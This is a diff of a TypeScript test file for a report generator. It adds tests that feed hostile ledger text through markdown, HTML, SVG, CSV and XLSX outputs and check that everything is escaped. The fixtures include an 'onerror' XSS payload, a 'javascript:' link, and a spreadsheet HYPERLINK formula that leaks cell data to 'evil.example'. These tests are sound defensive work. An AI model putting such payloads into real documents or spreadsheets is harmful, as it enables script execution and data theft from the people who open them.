@@ -1,14 +1,20 @@
+import { mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import ExcelJS from "exceljs";
 import JSZip from "jszip";
 import { describe, expect, it } from "vitest";
+import type { Ledger } from "../core/index.ts";
+import { writeDataPackage } from "../ledger/index.ts";
 import { renderChartSvg } from "./charts.ts";
 import { toBibtex, toCslItems } from "./citations.ts";
 import { renderCsvFiles } from "./csv.ts";
 import { renderDocx } from "./docx.ts";
 import { renderHtml } from "./html.ts";
 import { readLegalFramework } from "./legal.ts";
-import { renderMarkdown } from "./markdown.ts";
-import { buildReport, footnoteText, reportCharts } from "./model.ts";
+import { escapeMarkdown, renderMarkdown } from "./markdown.ts";
+import { buildReport, footnoteParts, footnoteText, reportCharts } from "./model.ts";
+import { blankPng, canRasterise } from "./png.ts";
 import { FIXED_OPTIONS, shippedLedger } from "./testing.ts";
 import { renderXlsx } from "./xlsx.ts";
 
@@ -33,7 +39,8 @@ describe("markdown, html and csv", () => {
     const defs = [...md.matchAll(/^\[\^(\d+)\]: (.*)$/gm)];
     expect(defs.map((d) => Number(d[1]))).toEqual(report.footnotes.map((_, i) => i + 1));
     for (const [i, d] of defs.entries()) {
-      expect(d[2]).toBe(footnoteText(sourceById.get(report.footnotes[i]!)!, "en"));
+      const parts = footnoteParts(sourceById.get(report.footnotes[i]!)!, "en");
+      expect(d[2]).toBe(parts.map((p) => ("url" in p ? `<${p.url}>` : escapeMarkdown(p.text))).join(""));
     }
     const firstUse = [...md.matchAll(/\[\^(\d+)\](?!:)/g)].map((m) => Number(m[1]));
     expect([...new Set(firstUse)]).toEqual(report.footnotes.map((_, i) => i + 1));
@@ -129,4 +136,158 @@ describe("citations", () => {
     expect(moj.language).toBe("zh-CN");
     expect(csl.find((c) => c.id === "xinhua-20180402-1122623057")!.note).toBe("Archived: https://archive.ph/odKbU");
   });
+});
+
+/** The shipped ledger with hostile text in the first cited source and in a figure's period label. */
+const IMG = "<img src=x onerror=alert(1)>";
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+const MARKUP = "*b* _i_ [x](javascript:alert(1)) `c` \\ & <b>";
+function hostileLedger(): { ledger: Ledger; sourceId: string } {
+  const base = shippedLedger();
+  const sourceId = report.footnotes[0]!;
+  const floorObservation = base.observations.find((o) => o.measure === "liuzhi_placements" && o.jurisdiction !== "CN")!;
+  return {
+    sourceId,
+    ledger: {
+      ...base,
+      sources: base.sources.map((s) =>
+        s.id === sourceId
+          ? { ...s, title: `${IMG} ${MARKUP}`, publisher: FORMULA }
+          : s.id === floorObservation.source_id
+            ? { ...s, title: "-2+3", publisher: "@SUM(A1)" }
+            : s,
+      ),
+      observations: base.observations.map((o) =>
+        o.id === floorObservation.id ? { ...o, period_label: `${MARKUP} ${IMG}` } : o,
+      ),
+    },
+  };
+}
+
+describe("ledger text is escaped", () => {
+  const { ledger: hostile, sourceId } = hostileLedger();
+  const bad = buildReport(hostile, { ...FIXED_OPTIONS, legal: readLegalFramework() });
+
+  it("in markdown: no raw HTML, no Markdown from the ledger", () => {
+    const md = renderMarkdown(bad);
+    expect(md).not.toContain("<img");
+    expect(md).not.toContain("<b>");
+    expect(md).toContain("&lt;img src=x onerror=alert(1)&gt;");
+    expect(md).toContain("\\*b\\* \\_i\\_ \\[x\\](javascript:alert(1)) \\`c\\` \\\\ &amp; &lt;b&gt;");
+    const number = bad.footnotes.indexOf(sourceId) + 1;
+    const note = md.split("\n").find((l) => l.startsWith(`[^${number}]: `))!;
+    expect(note).toContain("&lt;img src=x onerror=alert(1)&gt;");
+    expect(note).toContain('=HYPERLINK("http://evil.example/?"&amp;A1,"x")');
+    // The report's own markup is intact: footnote marks, bold totals, table rows.
+    expect(md).toMatch(/\| \*\*Total\*\* \|/);
+    expect(md).toContain(`[^${number}]`);
+  });
+
+  it("in html, charts included", () => {
+    const html = renderHtml(bad);
+    expect(html).not.toContain("<img");
+    expect(html).not.toContain("<b>");
+    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
+    for (const chart of reportCharts(bad)) {
+      const svg = renderChartSvg(chart);
+      expect(svg).not.toContain("<img");
+      expect(svg).not.toContain("<b>");
+    }
+  });
+});
+
+describe("report spreadsheets are guarded against formula injection", () => {
+  const { ledger: hostile, sourceId } = hostileLedger();
+  const bad = buildReport(hostile, { ...FIXED_OPTIONS, legal: readLegalFramework() });
+
+  it("csv: text starting with = + - @ gets a leading quote, numbers stay numbers", () => {
+    const files = renderCsvFiles(bad);
+    const sources = files.get("sources.csv")!;
+    expect(sources).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
+    expect(sources).toContain(",'@SUM(A1),");
+    expect(sources).toContain(",'-2+3,");
+    expect(sources).not.toMatch(/(^|,)"?[=+\-@]/m);
+    for (const [name, text] of files) {
+      for (const line of text.trimEnd().split("\n")) expect(line, name).not.toMatch(/(^|,)"?[=+@\t\r]/);
+    }
+    expect(files.get("estimates.csv")).toContain("\nTotal,923000,44900,89800,92300,184600\n");
+  });
+
+  it("xlsx: plain strings with a leading quote, never formulas; numbers stay numbers", async () => {
+    const buffer = await renderXlsx(bad);
+    const zip = await JSZip.loadAsync(buffer);
+    for (const name of Object.keys(zip.files).filter((f) => /^xl\/worksheets\/.*\.xml$/.test(f))) {
+      expect(await zip.file(name)!.async("string"), name).not.toContain("<f>");
+    }
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(buffer as unknown as ArrayBuffer);
+    const values: unknown[] = [];
+    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
+    expect(values).toContain(`'${FORMULA}`);
+    expect(values).toContain("'@SUM(A1)");
+    expect(values).toContain("'-2+3");
+    for (const v of values) {
+      expect(typeof v === "string" || typeof v === "number" || v === null, JSON.stringify(v)).toBe(true);
+      if (typeof v === "string") expect(v).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    let total: unknown[] = [];
+    wb.getWorksheet("estimates")!.eachRow((row) => {
+      if (row.getCell(1).value === "Total") total = [2, 3, 4, 5, 6].map((i) => row.getCell(i).value);
+    });
+    expect(total).toEqual([923000, 44900, 89800, 92300, 184600]);
+  });
+
+  it("the data package export stays lossless", () => {
+    const dir = mkdtempSync(join(tmpdir(), "liuzhi-export-"));
+    try {
+      writeDataPackage(hostile, dir);
+      const sources = readFileSync(join(dir, "sources.csv"), "utf8");
+      expect(sources).toContain(`"${FORMULA.replaceAll('"', '""')}"`);
+      expect(sources).not.toContain(`'${FORMULA}`);
+      expect(sources).toContain(sourceId);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
+
+describe("chart legends", () => {
+  for (const lang of ["en", "zh"] as const) {
+    it(`say what each colour stands for (${lang})`, () => {
+      const r = lang === "en" ? report : buildReport(ledger, { ...FIXED_OPTIONS, lang });
+      for (const chart of reportCharts(r)) {
+        const svg = renderChartSvg(chart);
+        const legend = [...svg.matchAll(/<g class="legend-item">.*?<text[^>]*>([^<]*)<\/text><\/g>/g)].map((m) => m[1]);
+        if (chart.id === "yearly") {
+          expect(legend).toEqual([...new Set(chart.bands.map((b) => b.series)), chart.official[0]!.series]);
+          expect(svg).toContain('fill="#4c78a8" fill-opacity="0.3"');
+          expect(svg).toContain('fill="#f58518" fill-opacity="0.3"');
+        } else if (chart.id === "cumulative") {
+          expect(legend).toEqual([chart.band[0]!.series, chart.interval.series, chart.floor.series]);
+        } else {
+          expect(legend).toHaveLength(2);
+          expect(legend[1]).toBe(lang === "en" ? "Official nationwide figure" : "官方全国数字");
+        }
+      }
+    });
+  }
+});
+
+describe("docx chart fallback", () => {
+  it.runIf(canRasterise())(
+    "is the rasterised chart when Chromium is there, not a blank image",
+    async () => {
+      const zip = await JSZip.loadAsync(await renderDocx(report));
+      const pngs = Object.keys(zip.files).filter((f) => /^word\/media\/.*\.png$/.test(f));
+      expect(pngs).toHaveLength(3);
+      for (const name of pngs) {
+        const png = await zip.file(name)!.async("nodebuffer");
+        const width = png.readUInt32BE(16);
+        const height = png.readUInt32BE(20);
+        expect(png.equals(blankPng(width, height)), name).toBe(false);
+        expect(png.length).toBeGreaterThan(5_000);
+      }
+    },
+    120_000,
+  );
 });
